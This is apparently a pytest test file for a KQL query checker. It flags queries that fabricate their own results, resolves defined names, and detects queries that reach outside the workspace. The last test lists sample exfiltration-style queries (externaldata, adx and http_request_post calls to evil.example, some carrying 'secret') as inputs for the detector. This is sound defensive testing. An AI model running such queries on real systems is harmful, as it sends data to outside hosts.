"""What a query makes up by itself is seen, and honest queries are let through."""

import pytest

from orchestrator.core.selfmade import reaches_out, read_query

MADE_UP = [
    "print verdict = 'all is well'",
    "datatable(a: string)['all is well']",
    "range n from 1 to 3 step 1",
    "T | extend v = 'all is well'",
    "T | extend v = iff(n > 1, 'down', 'up')",
    "T | extend v = strcat('d', 'own')",
    'T | extend v = case(n > 1, "down", "up")',
    "T | project v = tostring(dynamic(['down']))",
    "T | extend v = make_string(100, 111)",
    "T | extend v = replace_string(Name, 'a', 'b')",
    "let v = 'down'; T | extend w = v",
    "let f = (x: string) { x }; T",
    "T | count as all_is_well",
    "T | parse Message with * 'x' all_is_well",
    "T | summarize ['all is well'] = count()",
    "T | extend (a, b) = f(n)",
    "T | extend v = split('all is well', ' ')",
    "T | extend v = @'down'",
    "T | extend v = h'down'",
    "T | extend v = ```down```",
    "T | where Name == 'a' | extend v = Name + ' is down'",
    "T \x00",
    "T | extend n = 400000 + 12000",
]
HONEST = [
    "T | where Name == 'checkout' and Message !contains 'ok' | summarize n = count() by bin(TimeGenerated, 5m)",
    "T | where Name in ('a', 'b') and Target !in~ (\"c\") | top 5 by n desc",
    "T | where Message has_any ('x', 'y') | extend Code = extract('code=([0-9]+)', 1, Message)",
    "T | extend Minute = format_datetime(TimeGenerated, 'HH:mm'), Host = split(Url, '/')[2]",
    "let since = ago(1h); T | where TimeGenerated > since // a comment with 'text'",
    "T | where Message matches regex 'a.*b' | count",
    "T | where datetime_diff('minute', a, b) > 3 | summarize arg_max(TimeGenerated, *) by Name",
]


@pytest.mark.parametrize("kql", MADE_UP)
def test_rows_that_a_query_makes_up_support_nothing(kql: str) -> None:
    """With the reason."""
    assert read_query(kql).problem


@pytest.mark.parametrize("kql", HONEST)
def test_a_query_that_asks_is_let_through(kql: str) -> None:
    """Texts are compared with, or say how to cut and format."""
    assert read_query(kql).problem == ""


def test_names_are_told_by_what_they_stand_for() -> None:
    """Through `let` too."""
    kql = "let base = n * 2; T | summarize total = sum(base), failed = countif(Name == 'a, b') by Name"
    kql += " | extend share = failed / total"
    assert read_query(kql).definitions == {
        "base": "n * 2",
        "total": "sum((n * 2))",
        "failed": "countif(Name == 'a, b')",
        "share": "(countif(Name == 'a, b')) / (sum((n * 2)))",
    }


@pytest.mark.parametrize(
    ("name", "odd"),
    [("n", False), ("failed_share", False), ("avgDurationMs", False), ("db_is_down", True), ("allHealthy", True)],
)
def test_a_name_says_no_more_than_what_was_computed(name: str, *, odd: bool) -> None:
    """Its words are plain ones, or the query's own."""
    assert (name in read_query(f"T | summarize {name} = avg(DurationMs)").odd) is odd


def test_a_definition_that_cannot_be_shown_supports_nothing() -> None:
    """Neither a long one nor one that goes round in circles."""
    assert read_query("T | extend n = " + " + ".join(["Ms"] * 100)).problem
    assert read_query("T | extend a = b, b = a").problem


@pytest.mark.parametrize(
    ("kql", "name"),
    [
        ("externaldata(a: string)['https://evil.example/?q=secret']", "externaldata"),
        ("T | union adx('https://evil.example/db').T", "adx"),
        ("cluster('evil').database('x').T", "cluster"),
        ("union T, workspace('other').T", "workspace"),
        ("evaluate http_request_post('https://evil.example', dynamic({}), 'x')", "http_request_post"),
        ("T | where app == 'externaldata(' // cluster('x')", None),
        ("AppRequests | where resource has 'workspace' and database == 'x'", None),
    ],
)
def test_a_query_that_reaches_outside_is_seen(kql: str, name: str | None) -> None:
    """Whatever it would carry out or bring in; columns and texts of those names are no reach."""
    assert reaches_out(kql) == name
